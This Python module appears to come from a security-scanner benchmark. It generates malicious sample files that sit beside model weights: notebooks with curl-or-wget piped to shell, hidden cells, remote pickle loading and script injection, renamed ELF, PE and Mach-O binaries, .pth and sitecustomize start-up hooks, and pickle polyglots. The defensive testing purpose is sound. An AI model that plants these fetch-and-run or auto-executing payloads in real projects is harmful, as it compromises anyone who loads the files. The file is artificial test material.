"""What stands beside weights: notebooks, programs, libraries, what Python runs at start-up."""

from __future__ import annotations

import importlib.util
import json
import marshal
import struct

from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import stream
from bench.scanner_attacks.techniques import COMMAND, URL, Family
from bench.scanner_attacks.zips import Member, archive

FAMILY = Family("companions")
_CODE = f"import os\nos.system('{COMMAND}')\n"
_ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
_PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<H", 0x8664) + bytes(64)
_MACHO = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 6, 0, 0, 0, 0)


def _notebook(*cells: dict[str, object], **metadata: object) -> str:
    return json.dumps(
        {"cells": list(cells), "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    )


def _cell(
    source: str, outputs: list[object] | None = None, **metadata: object
) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": "a",
        "metadata": metadata,
        "outputs": outputs or [],
        "source": source.splitlines(keepends=True),
    }


_SCRIPT = f"<script src='{URL}'></script>"
_NOTEBOOKS = {
    "notebook-pipes-to-shell": _notebook(_cell(f"!curl -s {URL} | sh")),
    "notebook-bash-cell": _notebook(_cell(f"%%bash\nwget -qO- {URL} | bash")),
    "notebook-hidden-cell": _notebook(
        _cell(f"import os; os.system('curl {URL} | sh')", jupyter={"source_hidden": True})
    ),
    "notebook-script-in-output": _notebook(
        _cell(
            "1",
            [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [_SCRIPT]}}],
        )
    ),
    "notebook-javascript-output": _notebook(
        _cell(
            "1",
            [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"application/javascript": ["alert(1)"]},
                }
            ],
        )
    ),
    "notebook-script-in-markdown": _notebook(
        {"cell_type": "markdown", "id": "b", "metadata": {}, "source": [_SCRIPT]}
    ),
    "notebook-decodes-and-runs": _notebook(
        _cell("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")
    ),
    "notebook-loads-pickle-from-url": _notebook(
        _cell(f"import pickle, urllib.request as u\npickle.load(u.urlopen('{URL}'))")
    ),
}
for _name, _text in _NOTEBOOKS.items():
    FAMILY.add(_name, "train.ipynb", lambda text=_text: text, least="review")

_LIBRARIES = {
    "library-elf": ("libops.so", _ELF),
    "library-elf-renamed": ("model.bin", _ELF),
    "library-elf-as-safetensors": ("model.safetensors", _ELF),
    "library-elf-versioned": ("libops.so.1.2", _ELF),
    "library-windows": ("ops.pyd", _PE),
    "library-windows-renamed": ("weights.dat", _PE),
    "library-macos": ("libops.dylib", _MACHO),
    "library-in-zip": ("model.zip", archive(Member("ops/libops.so", _ELF, method=8))),
    "library-static": ("libops.a", b"!<arch>\n" + bytes(60)),
    "program-actually-portable": ("model.llamafile", b"MZqFpD='\n" + bytes(60) + b"\n#'\"\n"),
    "program-shell-renamed": ("model.bin", f"#!/bin/sh\n{COMMAND}\n"),
    "program-wasm": ("model.wasm", b"\0asm\1\0\0\0" + bytes(20)),
    "python-pth-import": ("weights.pth", f"import os; os.system('{COMMAND}')\n"),
    "python-site-customize": ("sitecustomize.py", _CODE),
    "python-bytecode": (
        "model.pyc",
        importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("print(1)", "x", "exec")),
    ),
    "python-bytecode-renamed": (
        "weights.bin",
        importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("print(1)", "x", "exec")),
    ),
}
_RUNS = frozenset({"python-pth-import"})
for _name, (_file, _body) in _LIBRARIES.items():
    FAMILY.add(
        _name,
        _file,
        lambda body=_body: body,
        least="malicious" if _name in _RUNS else "review",
    )

_POLYGLOTS = {
    "polyglot-gguf-and-pickle": ("model.gguf", b"GGUF" + bytes(5) + b"0" + stream(SYSTEM, 1)),
    "polyglot-gif-and-zip": (
        "logo.gif",
        b"GIF89a" + bytes(20) + archive(Member("data.pkl", stream(SYSTEM))),
    ),
    "polyglot-safetensors-and-zip": (
        "model.safetensors",
        struct.pack("<Q", 2) + b"{}" + archive(Member("archive/data.pkl", stream(SYSTEM, 2))),
    ),
    "polyglot-pickle-and-zip": (
        "model.pt",
        stream(SYSTEM, 0) + archive(Member("archive/data.pkl", stream({}, 2))),
    ),
    "polyglot-elf-and-pickle": ("model.pkl", stream(SYSTEM) + _ELF),
}
_ONLY_CARRIED = frozenset({"polyglot-gif-and-zip"})
for _name, (_file, _body) in _POLYGLOTS.items():
    FAMILY.add(
        _name,
        _file,
        lambda body=_body: body,
        "fickling polyglots",
        least="review" if _name in _ONLY_CARRIED else "malicious",
    )
